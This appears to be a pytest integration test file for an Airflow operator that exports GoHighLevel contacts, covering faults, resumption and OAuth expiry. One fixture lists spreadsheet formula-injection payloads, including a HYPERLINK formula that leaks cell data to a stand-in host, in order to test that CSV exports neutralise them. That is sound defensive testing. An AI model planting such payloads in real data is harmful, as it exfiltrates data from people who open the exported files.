"""GHLExportContactsOperator over the wire: every contact exactly once, under faults, resumed after a kill."""

from __future__ import annotations

import gzip
import json
import logging
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from structlog.testing import capture_logs

from airflow_provider_ghl.exceptions import GHLConfigError, GHLForbiddenError, GHLTaskStopped
from airflow_provider_ghl.hooks.ghl import ContactPage
from airflow_provider_ghl.operators.export import GHLExportContactsOperator
from ghl_sandbox.testing import SandboxServer
from tests.stopping import stopped_mid_run

CONTACTS = 2_500


@pytest.fixture(scope="module")
def export_sandbox() -> Iterator[SandboxServer]:
    with SandboxServer(contacts=CONTACTS, locations=2, seed=3, max_requests=100_000, interval_ms=1000) as server:
        yield server


@pytest.fixture
def conn_id(export_sandbox: SandboxServer, monkeypatch: pytest.MonkeyPatch) -> str:
    export_sandbox.reset()
    conn = export_sandbox.airflow_connection(0)
    monkeypatch.setenv("AIRFLOW_CONN_GHL_EXPORT", json.dumps(conn))
    return "ghl_export"


def _operator(conn_id: str, out: Path, **kwargs: Any) -> GHLExportContactsOperator:
    kwargs.setdefault("page_limit", 100)
    kwargs.setdefault("records_per_file", 700)
    return GHLExportContactsOperator(
        task_id="export",
        ghl_conn_id=conn_id,
        output_path=f"file://{out}",
        hook_params={"retry_backoff": 0.01},
        **kwargs,
    )


def _exported(out: Path) -> list[dict[str, Any]]:
    manifest = json.loads((out / "_manifest.json").read_text())
    records = []
    for name in manifest["files"]:
        raw = (out / name).read_bytes()
        text = gzip.decompress(raw).decode() if name.endswith(".gz") else raw.decode()
        records += [json.loads(line) for line in text.splitlines()]
    return records


def _assert_exact(out: Path, sandbox: SandboxServer) -> list[dict[str, Any]]:
    records = _exported(out)
    ids = [r["id"] for r in records]
    assert len(ids) == len(set(ids)), "duplicates in the export"
    assert set(ids) == set(sandbox.contact_ids(sandbox.location_ids[0]))
    return records


def test_full_export_writes_every_contact_with_custom_fields_by_key(
    conn_id: str, export_sandbox: SandboxServer, tmp_path: Path
) -> None:
    out = tmp_path / "full"
    result = _operator(conn_id, out, compression="gzip").execute(context={})
    records = _assert_exact(out, export_sandbox)
    manifest = json.loads((out / "_manifest.json").read_text())
    assert result == {
        "manifest": f"file://{out}/_manifest.json",
        "contacts": CONTACTS,
        "files": 4,
        "ghl_total": CONTACTS,
    }
    assert manifest["files"] == [f"contacts-0000{i}.jsonl.gz" for i in range(1, 5)]
    assert manifest["requests"] == 1 + CONTACTS // 100 + 1  # custom fields + pages (+ the final short page)
    assert (manifest["responses_429"], manifest["api_version"]) == (0, "2021-07-28")
    assert sorted(p.name for p in out.iterdir()) == sorted([*manifest["files"], "_manifest.json"])
    location = export_sandbox.location_ids[0]
    fields = requests.get(
        f"{export_sandbox.base_url}/locations/{location}/customFields", headers=export_sandbox.headers(0), timeout=10
    ).json()["customFields"]
    definitions = {f["id"]: f["fieldKey"].removeprefix("contact.") for f in fields}
    with_values = [r for r in records if r["customFields"]]
    assert with_values
    for record in with_values:
        assert record["customFieldsByKey"] == {definitions[cf["id"]]: cf["value"] for cf in record["customFields"]}


def test_rerun_after_the_manifest_does_nothing(conn_id: str, export_sandbox: SandboxServer, tmp_path: Path) -> None:
    out = tmp_path / "again"
    first = _operator(conn_id, out).execute(context={})
    export_sandbox.clear_stats()
    assert _operator(conn_id, out).execute(context={}) == first
    assert export_sandbox.stats()["requests_total"] == 0


@pytest.mark.parametrize(
    "faults",
    [
        {"error_rate": 0.1},
        {"drop_rate": 0.1},
        {"storm_rate": 0.2},
        {"mutate_on_search": 40},
    ],
    ids=["5xx", "dropped-connections", "429-storm", "contacts-updated-while-paging"],
)
def test_exactly_once_under_faults(
    conn_id: str, export_sandbox: SandboxServer, tmp_path: Path, faults: dict[str, Any]
) -> None:
    export_sandbox.set_faults(**faults)
    out = tmp_path / "faulty"
    _operator(conn_id, out).execute(context={})
    _assert_exact(out, export_sandbox)
    assert export_sandbox.stats()["faults"] or faults.get("mutate_on_search")


def test_csv_export_has_named_columns(conn_id: str, export_sandbox: SandboxServer, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    _operator(conn_id, out, file_format="csv").execute(context={})
    header = (out / "contacts-00001.csv").read_text().splitlines()[0].split(",")
    assert header[:4] == ["id", "locationId", "firstName", "lastName"]
    assert "customFieldsByKey.lead_score" in header


#: Fields a public form can fill, as an attacker would: each starts a spreadsheet formula.
FORMULAS = {
    "firstName": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "lastName": "+SUM(1,2)",
    "companyName": "@cmd",
    "city": "-1+2",
    "address1": "\t=1",
}


def test_csv_cells_that_would_run_as_formulas_are_neutralised_unless_turned_off(
    conn_id: str, export_sandbox: SandboxServer, tmp_path: Path
) -> None:
    """A contact whose fields start formulas: the CSV gets OWASP's leading ``'`` on each, a phone (``+...``) stays
    a number; with ``neutralise_csv_formulas=False`` and in JSON Lines every value is as GHL has it."""
    import csv

    created = requests.post(
        f"{export_sandbox.base_url}/contacts/",
        json={
            **FORMULAS,
            "email": "formula@example.com",
            "phone": "+15559876543",
            "tags": ["=1+1", "vip"],
            "locationId": export_sandbox.location_ids[0],
        },
        headers=export_sandbox.headers(0),
        timeout=10,
    )
    assert created.status_code in (200, 201), created.text
    contact_id = created.json()["contact"]["id"]

    def row(out: Path, **kwargs: Any) -> dict[str, str]:
        _operator(conn_id, out, file_format="csv", records_per_file=10_000, **kwargs).execute(context={})
        [found] = [r for r in csv.DictReader((out / "contacts-00001.csv").open()) if r["id"] == contact_id]
        return found

    safe = row(tmp_path / "safe")
    assert {k: safe[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
    assert safe["phone"] == "+15559876543" and safe["tags"] == "'=1+1|vip"
    raw = row(tmp_path / "raw", neutralise_csv_formulas=False)
    assert {k: raw[k] for k in FORMULAS} == FORMULAS and raw["tags"] == "=1+1|vip"
    jsonl = tmp_path / "jsonl"
    _operator(conn_id, jsonl).execute(context={})
    [record] = [r for r in _exported(jsonl) if r["id"] == contact_id]
    assert {k: record[k] for k in FORMULAS} == FORMULAS


@pytest.mark.parametrize(
    ("kwargs", "error", "message"),
    [
        ({"location_id": "NoSuchLocation123456"}, GHLForbiddenError, "does not have access"),
        ({"output_path": "notaproto://bucket/x"}, GHLConfigError, "output_path"),
        ({"output_path": "relative/dir"}, GHLConfigError, "output_path"),
        ({"page_limit": 501}, GHLConfigError, "page_limit"),
        ({"records_per_file": 0}, GHLConfigError, "records_per_file"),
        ({"file_format": "xml"}, GHLConfigError, "format"),
    ],
)
def test_bad_input_fails_before_anything_is_written(
    conn_id: str, export_sandbox: SandboxServer, tmp_path: Path, kwargs: dict[str, Any], error: type, message: str
) -> None:
    out = tmp_path / "bad"
    operator = _operator(conn_id, out)
    for name, value in kwargs.items():
        setattr(operator, name, value)
    with pytest.raises(error, match=message):
        operator.execute(context={})
    assert not out.exists() or not any(out.iterdir())
    assert export_sandbox.stats()["requests_by_route"].get("POST /contacts/search", 0) == 0


_WORKER = """
import json, sys
from airflow_provider_ghl.operators.export import GHLExportContactsOperator
op = GHLExportContactsOperator(task_id="export", ghl_conn_id="ghl_export", output_path=sys.argv[1],
                               page_limit=50, records_per_file=200)
print(json.dumps(op.execute(context={})))
"""


def test_killed_worker_resumes_to_the_exact_set(conn_id: str, export_sandbox: SandboxServer, tmp_path: Path) -> None:
    out = tmp_path / "killed"
    export_sandbox.set_faults(latency_ms=15)  # slow enough to kill it part-way
    env = {**os.environ}
    worker = subprocess.Popen([sys.executable, "-c", _WORKER, f"file://{out}"], env=env, stdout=subprocess.PIPE)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not (out / "_checkpoint.json").exists():
        time.sleep(0.05)
    time.sleep(0.3)  # let it get into the next part
    worker.send_signal(signal.SIGKILL)
    worker.wait(10)
    checkpoint = json.loads((out / "_checkpoint.json").read_text())
    done = sum(p["records"] for p in checkpoint["datasets"]["contacts"]["parts"])
    assert 0 < done < CONTACTS and not (out / "_manifest.json").exists()
    export_sandbox.set_faults()
    result = _operator(conn_id, out, page_limit=50, records_per_file=200).execute(context={})
    assert result["contacts"] == CONTACTS
    _assert_exact(out, export_sandbox)
    manifest = json.loads((out / "_manifest.json").read_text())
    assert manifest["resumed_from_records"] == done
    assert not [p for p in out.iterdir() if p.name.endswith(".inprogress") or p.name == "_checkpoint.json"]


def test_on_kill_stops_the_export_at_its_next_request_and_a_rerun_resumes(
    conn_id: str, export_sandbox: SandboxServer, tmp_path: Path
) -> None:
    """Airflow calls ``on_kill`` (SIGTERM, execution timeout) while ``execute`` runs: nothing more is requested,
    what was committed stays, and the retried task finishes the export with every contact once."""
    out = tmp_path / "stopped"
    export_sandbox.set_faults(latency_ms=20)
    err = stopped_mid_run(
        _operator(conn_id, out, records_per_file=300), started=lambda: bool(list(out.glob("contacts-*.jsonl")))
    )
    assert isinstance(err, GHLTaskStopped), err
    assert not (out / "_manifest.json").exists()
    sent = export_sandbox.stats()["requests_total"]
    time.sleep(0.3)
    assert export_sandbox.stats()["requests_total"] == sent  # nothing more after the stop

    export_sandbox.set_faults()
    _operator(conn_id, out, records_per_file=300).execute(context={})
    assert json.loads((out / "_manifest.json").read_text())["resumed_from_records"] > 0
    _assert_exact(out, export_sandbox)


def test_exactly_once_when_the_oauth_access_token_expires_mid_run(
    export_sandbox: SandboxServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, airflow_db: Path
) -> None:
    export_sandbox.reset()
    conn = export_sandbox.airflow_connection(0, oauth=True, token_variable=f"ghl_oauth_export_{tmp_path.name}")
    monkeypatch.setenv("AIRFLOW_CONN_GHL_EXPORT_OAUTH", json.dumps(conn))
    export_sandbox.set_faults(latency_ms=5)
    out = tmp_path / "oauth"
    expired = threading.Event()

    def expire_after_first_part() -> None:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and not (out / "_checkpoint.json").exists():
            time.sleep(0.01)
        expired.set()
        export_sandbox.expire_tokens()

    expirer = threading.Thread(target=expire_after_first_part)
    expirer.start()
    _operator("ghl_export_oauth", out, records_per_file=300).execute(context={})
    expirer.join()
    assert expired.is_set()
    _assert_exact(out, export_sandbox)
    stats = export_sandbox.stats()
    assert stats["tokens_refreshed"] == 2  # the bootstrap, then once after the expiry
    assert stats["responses_by_status"]["401"] >= 1
    assert stats["refresh_tokens_reused"] == 0


def test_progress_is_logged_and_a_total_mismatch_is_reported(
    conn_id: str, export_sandbox: SandboxServer, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    out = tmp_path / "progress"
    operator = _operator(conn_id, out, progress_every=5)
    pages = operator.hook.iter_contact_pages

    def one_less_than_reality(**kwargs: Any) -> Iterator[ContactPage]:
        # As when a contact is deleted after GHL counted it: the export must say so, not hide it.
        for page in pages(**kwargs):
            yield page._replace(total=CONTACTS - 1)

    operator.hook.iter_contact_pages = one_less_than_reality  # type: ignore[method-assign]
    with capture_logs() as task_log:  # Airflow 3's task logger is structlog
        operator.execute(context={})
    progress = [r.getMessage() for r in caplog.records if "records/s" in r.getMessage()]
    assert len(progress) == CONTACTS // 100 // 5  # every 5 pages of 100
    assert f"500 of {CONTACTS - 1} records" in progress[0] and "ETA" in progress[0]
    mismatch = [e for e in task_log if "but GHL reported a total" in e["event"]]
    assert [(e["log_level"], e["event"].split(" for location")[0]) for e in mismatch] == [
        ("warning", f"Exported {CONTACTS} contacts but GHL reported a total of {CONTACTS - 1}")
    ]
